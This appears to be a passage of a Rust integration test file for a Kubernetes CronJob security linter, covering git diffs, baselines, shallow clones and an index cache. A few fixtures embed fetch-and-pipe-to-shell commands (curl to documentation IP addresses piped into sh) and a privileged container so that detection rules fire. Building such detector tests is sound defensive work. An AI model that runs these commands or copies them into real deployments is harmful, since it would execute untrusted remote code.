//! Git history: real repositories built in temp dirs with the git binary (init, commit,
//! branch, rename, merge, shallow clone), driven through the in-process CLI.

use cronguard::history::{self, DiffRequest, HeadSpec};
use cronguard::report::human::{Style, render_finding};
use cronguard::rules;
use cronguard::scan::Options;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

mod common;
use common::{Ran, cg};

fn json(r: &Ran) -> Value {
    serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {}\n{}", r.stdout, r.stderr))
}

/// (rule, path, line) of every finding that is not suppressed.
fn found(v: &Value) -> Vec<(String, String, u64)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["suppressed"].is_null())
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
            )
        })
        .collect()
}

fn rules_of(v: &Value) -> Vec<String> {
    found(v).into_iter().map(|(r, _, _)| r).collect()
}

fn messages(v: &Value, rule: &str) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .map(|f| f["message"].as_str().unwrap().to_string())
        .collect()
}

struct Repo {
    tmp: tempfile::TempDir,
    dir: PathBuf,
}

impl Repo {
    fn new() -> Repo {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().join("repo");
        std::fs::create_dir(&dir).unwrap();
        let r = Repo { tmp, dir };
        r.git(&["init", "-q", "-b", "main"]);
        r
    }

    fn at(dir: PathBuf, tmp: tempfile::TempDir) -> Repo {
        Repo { tmp, dir }
    }

    fn git(&self, args: &[&str]) -> String {
        git_in(&self.dir, args)
    }

    fn write(&self, path: &str, text: &str) {
        let p = self.dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn commit(&self, msg: &str) -> String {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "--allow-empty", "-m", msg]);
        self.git(&["rev-parse", "HEAD"]).trim().to_string()
    }

    fn d(&self) -> &str {
        self.dir.to_str().unwrap()
    }

    fn diff(&self, extra: &[&str]) -> Ran {
        let mut args = vec!["diff", "-C", self.d(), "--format", "json"];
        args.extend_from_slice(extra);
        cg(&args)
    }
}

fn git_in(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "Ada Author")
        .env("GIT_AUTHOR_EMAIL", "ada@example.com")
        .env("GIT_COMMITTER_NAME", "Ada Author")
        .env("GIT_COMMITTER_EMAIL", "ada@example.com")
        .env("GIT_AUTHOR_DATE", "2025-01-02T03:04:05Z")
        .env("GIT_COMMITTER_DATE", "2025-01-02T03:04:05Z")
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn cronjob(name: &str, schedule: &str, image: &str, extra: &str) -> String {
    format!(
        "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: {name}\n  namespace: ops\nspec:\n  schedule: \"{schedule}\"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          restartPolicy: OnFailure\n          containers:\n          - name: app\n            image: {image}\n{extra}"
    )
}

const PRIV: &str = "            securityContext:\n              privileged: true\n";

// ---------------------------------------------------------------- fixtures per change rule

fn fixture_dir(id: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/rules")
        .join(id)
}

/// Lines marked `# expect: <id>`.
fn expected_lines(text: &str, id: &str) -> Vec<u64> {
    let marker = format!("# expect: {id}");
    text.lines()
        .enumerate()
        .filter(|(_, l)| l.contains(&marker))
        .map(|(i, _)| i as u64 + 1)
        .collect()
}

/// Commit `<kind>.base.<ext>` (if any) as `target`, put `<kind>.<ext>` in the working tree,
/// run the library diff; return the outcome and the head text.
fn run_fixture(id: &str, kind: &str) -> (cronguard::scan::Outcome, String, String) {
    let dir = fixture_dir(id);
    let ext = if id == "imperative-job-creation" {
        "sh"
    } else {
        "yaml"
    };
    let target = if ext == "sh" {
        "bin/run.sh"
    } else {
        "deploy/w.yaml"
    };
    let repo = Repo::new();
    repo.write("README", "x\n");
    if let Ok(base) = std::fs::read_to_string(dir.join(format!("{kind}.base.{ext}"))) {
        repo.write(target, &base);
    }
    repo.commit("base");
    let head = std::fs::read_to_string(dir.join(format!("{kind}.{ext}"))).unwrap();
    repo.write(target, &head);
    let req = DiffRequest {
        dir: repo.dir.clone(),
        paths: Vec::new(),
        base: Some("HEAD".into()),
        head: HeadSpec::WorkTree,
        new_only: false,
        scan_mode: false,
        github_base_ref: None,
        discovery: cronguard::source::Discovery::default(),
        no_cache: false,
    };
    let r = history::diff(&req, &Options::default()).unwrap();
    (r.outcome, head, target.to_string())
}

#[test]
fn every_change_rule_flags_exactly_the_marked_lines_and_has_a_snapshot() {
    let change: Vec<_> = rules::registry()
        .iter()
        .filter(|r| r.category == rules::Category::Change)
        .collect();
    assert_eq!(change.len(), 7);
    for r in change {
        for kind in ["flagged", "clean"] {
            let (out, text, target) = run_fixture(r.id, kind);
            let mut got: Vec<u64> = out
                .findings
                .iter()
                .filter(|f| f.rule == r.id)
                .map(|f| f.line as u64)
                .collect();
            got.sort_unstable();
            let want = expected_lines(&text, r.id);
            assert_eq!(got, want, "{} {kind}: {:#?}", r.id, out.findings);
            if kind == "flagged" {
                assert!(!want.is_empty(), "{}: flagged fixture marks nothing", r.id);
                let style = Style {
                    color: false,
                    width: 100,
                    show_suppressed: true,
                };
                let rendered: Vec<String> = out
                    .findings
                    .iter()
                    .filter(|f| f.rule == r.id)
                    .map(|f| {
                        let first = f.message.chars().next().unwrap();
                        assert!(
                            first.is_lowercase() && !f.message.ends_with('.'),
                            "{}",
                            f.message
                        );
                        assert!(f.help.is_some() && !f.label.is_empty());
                        assert_eq!(&*f.path, target);
                        render_finding(f, out.sources.get(&f.path).map(|s| &**s), style)
                    })
                    .collect();
                insta::assert_snapshot!(format!("rule__{}", r.id), rendered.join("\n"));
            }
        }
    }
}

// ---------------------------------------------------------------- behaviours

#[test]
fn schedule_message_gives_readings_and_runs_per_day() {
    let repo = Repo::new();
    repo.write("c.yaml", &cronjob("backup", "0 3 * * *", "alpine:3.20", ""));
    repo.commit("base");
    repo.write(
        "c.yaml",
        &cronjob("backup", "*/5 * * * *", "alpine:3.20", ""),
    );
    let v = json(&repo.diff(&["--base", "HEAD"]));
    assert_eq!(
        messages(&v, "schedule-changed"),
        [
            "schedule changed from \"0 3 * * *\" (at 03:00 every day) to \"*/5 * * * *\" (every 5 minutes); 1 → 288 runs per day"
        ]
    );
}

#[test]
fn image_change_is_high_only_when_the_registry_changes() {
    let repo = Repo::new();
    repo.write(
        "a.yaml",
        &cronjob("a", "0 3 * * *", "registry.example.com/a:1.0", ""),
    );
    repo.write(
        "b.yaml",
        &cronjob("b", "0 3 * * *", "registry.example.com/b:1.0", ""),
    );
    repo.commit("base");
    repo.write(
        "a.yaml",
        &cronjob("a", "0 3 * * *", "registry.example.com/a:1.1", ""),
    );
    repo.write("b.yaml", &cronjob("b", "0 3 * * *", "ghcr.io/x/b:1.0", ""));
    let v = json(&repo.diff(&["--base", "HEAD"]));
    let sev: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "image-changed")
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        sev,
        [
            ("a.yaml".to_string(), "medium".to_string()),
            ("b.yaml".to_string(), "high".to_string())
        ]
    );
    assert!(messages(&v, "image-changed")[1].contains("registry registry.example.com → ghcr.io"));
}

#[test]
fn a_renamed_file_is_not_an_addition_and_two_objects_in_a_file_are_distinct() {
    let repo = Repo::new();
    let two = format!(
        "{}---\n{}",
        cronjob("one", "0 3 * * *", "alpine:3.20", ""),
        cronjob("two", "0 4 * * *", "alpine:3.20", "")
    );
    repo.write("deploy/jobs.yaml", &two);
    repo.commit("base");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    std::fs::create_dir(repo.dir.join("ops")).unwrap();
    repo.git(&["mv", "deploy/jobs.yaml", "ops/renamed.yaml"]);
    repo.commit("move");
    let v = json(&repo.diff(&["--base", "main"]));
    let r = rules_of(&v);
    assert!(
        !r.contains(&"scheduled-workload-added".to_string()),
        "{r:?}"
    );
    assert!(!r.iter().any(|x| x.ends_with("-changed")), "{r:?}");
    // Changing only the second object reports only it.
    let edited = two.replacen("0 4 * * *", "0 5 * * *", 1);
    repo.write("ops/renamed.yaml", &edited);
    let v = json(&repo.diff(&["--base", "main"]));
    let f: Vec<_> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "schedule-changed")
        .collect();
    assert_eq!(f.len(), 1);
    assert_eq!(f[0]["object"]["name"], "two");
}

#[test]
fn staged_compares_the_index_and_ignores_unstaged_edits() {
    let repo = Repo::new();
    repo.write("c.yaml", &cronjob("backup", "0 3 * * *", "alpine:3.20", ""));
    repo.commit("base");
    repo.write("c.yaml", &cronjob("backup", "* * * * *", "alpine:3.20", ""));
    repo.git(&["add", "c.yaml"]);
    // An unstaged edit on top: a new image, not part of the commit being made.
    repo.write(
        "c.yaml",
        &cronjob("backup", "* * * * *", "evil.example/alpine:3.20", ""),
    );
    let v = json(&repo.diff(&["--base", "HEAD", "--staged"]));
    let r = rules_of(&v);
    assert!(r.contains(&"schedule-changed".to_string()), "{r:?}");
    assert!(!r.contains(&"image-changed".to_string()), "{r:?}");
    let v = json(&repo.diff(&["--base", "HEAD"]));
    assert!(rules_of(&v).contains(&"image-changed".to_string()));
}

#[test]
fn head_revision_and_path_filters() {
    let repo = Repo::new();
    repo.write("a/c.yaml", &cronjob("a", "0 3 * * *", "alpine:3.20", ""));
    repo.write("b/c.yaml", &cronjob("b", "0 3 * * *", "alpine:3.20", ""));
    let base = repo.commit("base");
    repo.write("a/c.yaml", &cronjob("a", "0 1 * * *", "alpine:3.20", ""));
    repo.write("b/c.yaml", &cronjob("b", "0 1 * * *", "alpine:3.20", ""));
    let head = repo.commit("both");
    repo.write("a/c.yaml", &cronjob("a", "0 3 * * *", "alpine:3.20", ""));
    let v = json(&repo.diff(&["--base", &base, "--head", &head, "a"]));
    let f = found(&v);
    assert!(
        f.iter()
            .any(|(r, p, _)| r == "schedule-changed" && p == "a/c.yaml"),
        "{f:?}"
    );
    assert!(f.iter().all(|(_, p, _)| p == "a/c.yaml"), "{f:?}");
    // --exclude applies to revisions too.
    let v = json(&repo.diff(&["--base", &base, "--head", &head, "--exclude", "a/*"]));
    let f = found(&v);
    assert!(
        f.iter().all(|(_, p, _)| p == "b/c.yaml") && !f.is_empty(),
        "{f:?}"
    );
    // The working tree reverted a/c.yaml: no change there against base.
    let v = json(&repo.diff(&["--base", &base, "a"]));
    assert!(found(&v).is_empty(), "{:?}", found(&v));
}

#[test]
fn default_base_is_the_merge_base_with_origin_main() {
    let tmp = tempfile::tempdir().unwrap();
    let origin = Repo::new();
    origin.write("c.yaml", &cronjob("backup", "0 3 * * *", "alpine:3.20", ""));
    origin.commit("base");
    let clone = tmp.path().join("clone");
    git_in(
        tmp.path(),
        &["clone", "-q", origin.d(), clone.to_str().unwrap()],
    );
    let repo = Repo::at(clone, tmp);
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("c.yaml", &cronjob("backup", "* * * * *", "alpine:3.20", ""));
    repo.commit("feature: every minute");
    // main moves on upstream: a new job there is not part of this branch's change.
    origin.write(
        "n.yaml",
        &cronjob("new-upstream", "0 3 * * *", "alpine:3.20", ""),
    );
    origin.commit("upstream");
    repo.git(&["fetch", "-q", "origin"]);
    repo.git(&["merge", "-q", "--no-edit", "origin/main"]);
    let v = json(&repo.diff(&[]));
    let r = rules_of(&v);
    assert!(r.contains(&"schedule-changed".to_string()), "{r:?}");
    // After merging main, the merge base is main's tip: its new job is not "added" here.
    assert!(
        !r.contains(&"scheduled-workload-added".to_string()),
        "{r:?}"
    );
    // GITHUB_BASE_REF (passed in; the CLI reads the environment variable).
    let opened = history::open(&repo.dir).unwrap();
    let (commit, label) = history::resolve_base(&opened, None, Some("main")).unwrap();
    assert_eq!(label, "merge-base(HEAD, origin/main)");
    assert_eq!(
        commit.id().to_string(),
        repo.git(&["rev-parse", "origin/main"]).trim()
    );
    let err = history::resolve_base(&opened, None, Some("release-9"))
        .err()
        .unwrap();
    assert!(
        err.contains("origin/release-9") && err.contains("git fetch origin release-9"),
        "{err}"
    );
}

#[test]
fn new_only_ignores_findings_that_existed_at_base_even_when_lines_move() {
    let repo = Repo::new();
    repo.write(
        "c.yaml",
        &cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV),
    );
    repo.commit("base");
    let moved = format!(
        "# a comment\n# and another\n{}",
        cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV)
    );
    repo.write("c.yaml", &moved);
    let all = json(&repo.diff(&["--base", "HEAD"]));
    assert!(rules_of(&all).contains(&"privileged-container".to_string()));
    let new = json(&repo.diff(&["--base", "HEAD", "--new-only"]));
    assert!(rules_of(&new).is_empty(), "{:?}", rules_of(&new));
    // scan --base --new-only over the working tree: the same answer, and a real new one.
    let r = cg(&[
        "scan",
        "--base",
        "HEAD",
        "--new-only",
        "--format",
        "json",
        repo.d(),
    ]);
    assert!(rules_of(&json(&r)).is_empty(), "{}", r.stdout);
    repo.write(
        "d.yaml",
        &cronjob("other", "0 3 * * *", "alpine:3.20", PRIV),
    );
    let r = cg(&[
        "scan",
        "--base",
        "HEAD",
        "--new-only",
        "--format",
        "json",
        repo.d(),
    ]);
    let f = found(&json(&r));
    assert!(
        f.iter()
            .any(|(r, p, _)| r == "privileged-container" && p == "d.yaml"),
        "{f:?}"
    );
    assert!(f.iter().all(|(_, p, _)| p == "d.yaml"), "{f:?}");
    assert_eq!(r.code, 1);
}

#[test]
fn baseline_write_apply_and_stale() {
    let repo = Repo::new();
    repo.write(
        "c.yaml",
        &cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV),
    );
    let bl = repo.dir.join("baseline.json");
    let bls = bl.to_str().unwrap();
    let c = repo.dir.join("c.yaml");
    let cs = c.to_str().unwrap();
    let r = cg(&["baseline", "write", "--output", bls, cs]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let text = std::fs::read_to_string(&bl).unwrap();
    let v: Value = serde_json::from_str(&text).unwrap();
    let entries = v["entries"].as_array().unwrap();
    assert!(
        entries
            .iter()
            .any(|e| e["rule"] == "privileged-container"
                && e["object"] == "batch/CronJob/ops/backup")
    );
    let keys: Vec<String> = entries
        .iter()
        .map(|e| format!("{}|{}|{}", e["rule"], e["object"], e["locator"]))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted, "entries are sorted");
    // Stable: writing again gives the same bytes.
    cg(&["baseline", "write", "--output", bls, cs]);
    assert_eq!(std::fs::read_to_string(&bl).unwrap(), text);
    // Applied: everything is suppressed, exit 0, nothing stale.
    let r = cg(&["scan", "--baseline", bls, "--format", "json", cs]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    let v = json(&r);
    assert!(found(&v).is_empty());
    let sup = &v["findings"][0]["suppressed"];
    assert_eq!(sup["kind"], "baseline");
    assert!(!r.stderr.contains("stale"), "{}", r.stderr);
    // Fix the privileged container: its entry is now stale.
    std::fs::write(&c, cronjob("backup", "0 3 * * *", "alpine:3.20", "")).unwrap();
    let r = cg(&["scan", "--baseline", bls, "--format", "json", cs]);
    assert!(
        r.stderr
            .contains("stale baseline entry privileged-container"),
        "{}",
        r.stderr
    );
    // A broken baseline is a usage error.
    std::fs::write(&bl, "{\"version\": 9, \"entries\": []}").unwrap();
    assert_eq!(cg(&["scan", "--baseline", bls, cs]).code, 2);
}

#[test]
fn baseline_suppresses_in_diff_too() {
    let repo = Repo::new();
    repo.write("README", "x\n");
    repo.commit("base");
    repo.write(
        "c.yaml",
        &cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV),
    );
    let bl = repo.tmp.path().join("bl.json");
    let bls = bl.to_str().unwrap();
    let cs = repo.dir.join("c.yaml");
    cg(&["baseline", "write", "--output", bls, cs.to_str().unwrap()]);
    let v = json(&repo.diff(&["--base", "HEAD", "--baseline", bls]));
    let r = rules_of(&v);
    // The scan findings are accepted; the change finding (new workload) is not in a scan
    // baseline, so it stays.
    assert_eq!(r, ["scheduled-workload-added"], "{r:?}");
}

#[test]
fn shallow_clone_without_the_base_says_what_to_do() {
    let origin = Repo::new();
    origin.write("c.yaml", &cronjob("backup", "0 3 * * *", "alpine:3.20", ""));
    let first = origin.commit("one");
    origin.write("c.yaml", &cronjob("backup", "* * * * *", "alpine:3.20", ""));
    origin.commit("two");
    let tmp = tempfile::tempdir().unwrap();
    let clone = tmp.path().join("shallow");
    let url = format!("file://{}", origin.d());
    git_in(
        tmp.path(),
        &["clone", "-q", "--depth", "1", &url, clone.to_str().unwrap()],
    );
    let repo = Repo::at(clone, tmp);
    let r = repo.diff(&["--base", &first]);
    assert_eq!(r.code, 2, "{}", r.stdout);
    assert!(r.stdout.is_empty());
    assert!(r.stderr.contains("shallow clone"), "{}", r.stderr);
    assert!(r.stderr.contains("fetch-depth: 0"), "{}", r.stderr);
    assert!(
        r.stderr.contains(&format!("git fetch origin {first}")),
        "{}",
        r.stderr
    );
    // No upstream branch at all (not shallow): still an error, never an empty comparison.
    let lone = Repo::new();
    lone.write("c.yaml", &cronjob("backup", "0 3 * * *", "alpine:3.20", ""));
    lone.commit("one");
    let r = lone.diff(&[]);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("pass --base REV"), "{}", r.stderr);
}

#[cfg(unix)]
#[test]
fn committed_symlinks_are_skipped_not_followed() {
    let repo = Repo::new();
    repo.write("README", "x\n");
    repo.commit("base");
    let outside = repo.tmp.path().join("secret.yaml");
    std::fs::write(&outside, cronjob("secret", "* * * * *", "alpine", PRIV)).unwrap();
    std::os::unix::fs::symlink(&outside, repo.dir.join("link.yaml")).unwrap();
    let head = repo.commit("add a symlink");
    let v = json(&repo.diff(&["--base", "HEAD~1", "--head", &head]));
    assert!(found(&v).is_empty(), "{:?}", found(&v));
    let skipped = v["skipped"].as_array().unwrap();
    assert!(
        skipped
            .iter()
            .any(|s| s["path"] == "link.yaml" && s["reason"].as_str().unwrap().contains("120000")),
        "{skipped:?}"
    );
}

#[test]
fn history_shows_the_timeline_with_commits_and_authors() {
    let repo = Repo::new();
    repo.write(
        "deploy/c.yaml",
        &cronjob("backup", "0 3 * * *", "alpine:3.19", ""),
    );
    let c1 = repo.commit("add backup");
    repo.write(
        "deploy/c.yaml",
        &cronjob("backup", "*/10 * * * *", "alpine:3.19", ""),
    );
    let c2 = repo.commit("more often");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write(
        "deploy/c.yaml",
        &cronjob("backup", "*/10 * * * *", "alpine:3.20", ""),
    );
    repo.commit("bump image");
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "--no-edit", "feature"]);
    let merge = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    std::fs::create_dir(repo.dir.join("ops")).unwrap();
    repo.git(&["mv", "deploy/c.yaml", "ops/backup.yaml"]);
    repo.commit("move");
    let r = cg(&["history", "-C", repo.d(), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v = json(&r);
    assert_eq!(
        v["commits"], 4,
        "first-parent: the feature commit counts through its merge"
    );
    let w = &v["workloads"].as_array().unwrap()[0];
    assert_eq!(w["object"]["name"], "backup");
    assert_eq!(w["path"], "ops/backup.yaml");
    let ev: Vec<(String, String)> = w["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["change"].as_str().unwrap().to_string(),
                e["commit"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(ev[0], ("introduced".to_string(), c1));
    assert_eq!(ev[1], ("schedule".to_string(), c2));
    assert_eq!(ev[2], ("image".to_string(), merge));
    assert_eq!(ev[3].0, "moved");
    assert_eq!(w["events"][0]["author"], "Ada Author");
    assert_eq!(w["events"][0]["date"], "2025-01-02T03:04:05Z");
    let human = cg(&["history", "-C", repo.d()]);
    assert!(
        human
            .stdout
            .contains("CronJob ops/backup (ops/backup.yaml)"),
        "{}",
        human.stdout
    );
    assert!(
        human.stdout.contains("(every 10 minutes)"),
        "{}",
        human.stdout
    );
}

#[test]
fn diff_human_report_snapshot() {
    let repo = Repo::new();
    repo.write(
        "deploy/c.yaml",
        &cronjob(
            "backup",
            "0 3 * * *",
            "registry.example.com/backup:1.4",
            "            args: [backup]\n",
        ),
    );
    repo.commit("base");
    repo.write(
        "deploy/c.yaml",
        &cronjob(
            "backup",
            "* * * * *",
            "evil.example/backup:1.4",
            "            args: [sh, -c, 'curl -s http://203.0.113.9/x | sh']\n",
        ),
    );
    repo.write(
        "bin/run.sh",
        "#!/bin/sh\nkubectl run debug --image=busybox\n",
    );
    let r = cg(&[
        "diff",
        "-C",
        repo.d(),
        "--base",
        "HEAD",
        "--only",
        "change",
        "--color",
        "never",
        "--width",
        "100",
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    insta::assert_snapshot!("diff_human", r.stdout);
}

// ---------------------------------------------------------------- persistent index cache

/// The `--stats` counters of a run.
fn stats(r: &Ran) -> Value {
    let line = r
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("stats: "))
        .unwrap_or_else(|| panic!("no stats line: {}", r.stderr));
    serde_json::from_str(line).unwrap()
}

const CACHE_RBAC: &str = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: backup-admin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: backup\n  namespace: ops\n";

const CACHE_SCRIPTS: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: scripts\n  namespace: ops\ndata:\n  nightly.sh: |\n    #!/bin/sh\n    set -eu\n    curl -fsSL http://198.51.100.7/helper | sh\n";

fn cache_repo_workloads(repo: &Repo, tag: &str) {
    repo.write(
        "w/backup.yaml",
        &cronjob(
            "backup",
            "0 3 * * *",
            &format!("registry.example.com/backup:{tag}"),
            "",
        )
        .replace(
            "          restartPolicy",
            "          serviceAccountName: backup\n          restartPolicy",
        ),
    );
    repo.write(
        "w/nightly.yaml",
        &cronjob(
            "nightly",
            "0 4 * * *",
            &format!("alpine:{tag}"),
            "            command: [sh, /scripts/nightly.sh]\n            volumeMounts:\n            - {name: scripts, mountPath: /scripts}\n",
        )
        .replace(
            "          restartPolicy",
            "          volumes:\n          - name: scripts\n            configMap: {name: scripts}\n          restartPolicy",
        ),
    );
}

/// Every diff/scan variant gives the same bytes with the cache cold, warm, and disabled.
fn same_with_and_without_cache(repo: &Repo, args: &[&str]) -> Vec<Value> {
    let cache = repo.dir.join(".git/cronguard/index-cache-v1.json");
    let _ = std::fs::remove_file(&cache);
    let mut all = Vec::new();
    for format in ["json", "human"] {
        let run = |extra: &[&str]| {
            let mut a = args.to_vec();
            a.extend_from_slice(&["--format", format, "--color", "never", "--width", "100"]);
            a.extend_from_slice(extra);
            cg(&a)
        };
        let off = run(&["--no-cache"]);
        assert!(!cache.exists(), "--no-cache writes nothing");
        let cold = run(&[]);
        assert!(cache.exists(), "the first run writes the cache");
        let warm = run(&[]);
        assert_eq!(cold.code, off.code);
        assert_eq!(warm.code, off.code);
        assert_eq!(
            cold.stdout, off.stdout,
            "{format}: cold cache vs --no-cache"
        );
        assert_eq!(
            warm.stdout, off.stdout,
            "{format}: warm cache vs --no-cache"
        );
        if format == "json" {
            all.push(json(&off));
        }
        let _ = std::fs::remove_file(&cache);
    }
    all
}

#[test]
fn warm_diff_reads_only_the_changed_blobs_and_renders_the_same_bytes() {
    let repo = Repo::new();
    repo.write("rbac.yaml", CACHE_RBAC);
    repo.write("scripts.yaml", CACHE_SCRIPTS);
    for i in 0..6 {
        repo.write(
            &format!("w/other-{i}.yaml"),
            &cronjob(&format!("other-{i}"), "0 1 * * *", "alpine:3.20", ""),
        );
    }
    cache_repo_workloads(&repo, "1.0");
    repo.commit("base");
    // A workload-only change: two files, so four blobs (base and head of each).
    cache_repo_workloads(&repo, "1.1");
    repo.commit("new tags");
    let diff = ["diff", "-C", repo.d(), "--base", "HEAD~1", "--head", "HEAD"];
    let report = same_with_and_without_cache(&repo, &diff);
    let rules = rules_of(&report[0]);
    assert!(
        rules.contains(&"service-account-privileged".to_string()),
        "{rules:?}"
    );
    assert!(rules.contains(&"image-changed".to_string()), "{rules:?}");
    // The privileged finding comes from the binding in the unchanged rbac.yaml.
    let msgs = messages(&report[0], "service-account-privileged");
    assert!(
        msgs[0].contains("ClusterRoleBinding backup-admin"),
        "{msgs:?}"
    );

    let stats_of = |extra: &[&str]| {
        let mut a = diff.to_vec();
        a.extend_from_slice(&["--format", "json", "--stats"]);
        a.extend_from_slice(extra);
        stats(&cg(&a))
    };
    let cold = stats_of(&[]);
    assert_eq!(cold["files_base"], 10);
    assert_eq!(
        cold["blobs_read"], 12,
        "cold: every manifest blob once: {cold}"
    );
    assert_eq!(cold["index_cache_misses"], 12, "{cold}");
    assert_eq!(cold["index_cache_written"], true, "{cold}");
    let warm = stats_of(&[]);
    assert_eq!(warm["wide"], false, "{warm}");
    assert_eq!(warm["changed_files"], 2, "{warm}");
    assert_eq!(
        warm["blobs_read"], 4,
        "warm: only the changed blobs: {warm}"
    );
    assert_eq!(warm["index_cache_hits"], 12, "{warm}");
    assert_eq!(warm["index_cache_misses"], 0, "{warm}");
    assert_eq!(
        warm["index_cache_written"], false,
        "a warm run writes nothing"
    );
    assert_eq!(warm["files_scanned"], 4, "{warm}");
    let off = stats_of(&["--no-cache"]);
    assert_eq!(off["blobs_read"], 12, "{off}");
    assert_eq!(off["index_cache_hits"], 0, "{off}");

    // `scan --base --new-only` (the whole working tree against a revision), same bytes.
    let w = repo.dir.join("w");
    let ws = w.to_str().unwrap();
    let rb = repo.dir.join("rbac.yaml");
    same_with_and_without_cache(
        &repo,
        &[
            "scan",
            "--base",
            "HEAD~1",
            "--new-only",
            ws,
            rb.to_str().unwrap(),
        ],
    );

    // A change to an indexed object (the binding) re-checks every workload, cache or not.
    repo.write(
        "rbac.yaml",
        &CACHE_RBAC.replace("backup-admin", "backup-admins"),
    );
    repo.commit("rename the binding");
    stats_of(&[]);
    let wide = stats_of(&[]);
    assert_eq!(wide["wide"], true, "{wide}");
    assert_eq!(
        wide["files_scanned"], 20,
        "every manifest of both sides: {wide}"
    );
    assert_eq!(
        wide["index_cache_hits"], 11,
        "9 shared blobs and 2 of rbac.yaml: {wide}"
    );
    assert_eq!(
        wide["blobs_read"], 11,
        "wide: every blob is scanned, so read: {wide}"
    );
    same_with_and_without_cache(&repo, &diff);

    // A change inside the ConfigMap script: its finding renders from the blob, same bytes.
    repo.write("scripts.yaml", &CACHE_SCRIPTS.replace("helper", "helper2"));
    repo.commit("edit the script");
    let v = same_with_and_without_cache(&repo, &diff);
    let f = found(&v[0]);
    assert!(
        f.iter()
            .any(|(r, p, l)| r == "command-download-exec" && p == "scripts.yaml" && *l == 10),
        "{f:?}"
    );
}

#[test]
fn a_corrupt_or_foreign_cache_is_ignored_and_rebuilt() {
    let repo = Repo::new();
    repo.write("rbac.yaml", CACHE_RBAC);
    cache_repo_workloads(&repo, "1.0");
    repo.commit("base");
    cache_repo_workloads(&repo, "1.1");
    let cache = repo.dir.join(".git/cronguard/index-cache-v1.json");
    let reference = repo.diff(&["--base", "HEAD", "--no-cache"]).stdout;
    let mut s = repo.diff(&["--base", "HEAD", "--stats"]);
    assert_eq!(s.stdout, reference);
    let good = std::fs::read_to_string(&cache).unwrap();
    for bad in [
        String::from("{not json"),
        good.replace("\"key\":\"cronguard ", "\"key\":\"cronguard 0.0.0-other "),
        // A span past the end of its text: the entry is dropped, the rest kept.
        good.replacen("\"len\":", "\"len\":1,\"x\":", 1),
        String::new(),
    ] {
        std::fs::write(&cache, &bad).unwrap();
        s = repo.diff(&["--base", "HEAD", "--stats"]);
        assert_eq!(s.code, reference_code(&repo), "{}", s.stderr);
        assert_eq!(s.stdout, reference, "cache text: {bad}");
        assert!(
            stats(&s)["index_cache_misses"].as_u64().unwrap() > 0,
            "{bad}"
        );
        assert_eq!(std::fs::read_to_string(&cache).unwrap(), good, "rebuilt");
    }
    // A symlink in place of the cache is neither followed nor replaced.
    let target = repo.tmp.path().join("elsewhere.json");
    std::fs::write(&target, &good).unwrap();
    std::fs::remove_file(&cache).unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&target, &cache).unwrap();
        let s = repo.diff(&["--base", "HEAD", "--stats"]);
        assert_eq!(s.stdout, reference);
        assert_eq!(
            stats(&s)["index_cache_hits"],
            0,
            "not read through a symlink"
        );
        assert_eq!(stats(&s)["index_cache_write_failures"], 1);
        assert!(std::fs::symlink_metadata(&cache).unwrap().is_symlink());
        assert_eq!(std::fs::read_to_string(&target).unwrap(), good);
        // Nor is a symlinked `cronguard/` directory (it points at a copy of the cache).
        let dir = repo.dir.join(".git/cronguard");
        std::fs::remove_file(&cache).unwrap();
        std::fs::remove_dir(&dir).unwrap();
        let outside = repo.tmp.path().join("outside");
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(outside.join("index-cache-v1.json"), &good).unwrap();
        std::os::unix::fs::symlink(&outside, &dir).unwrap();
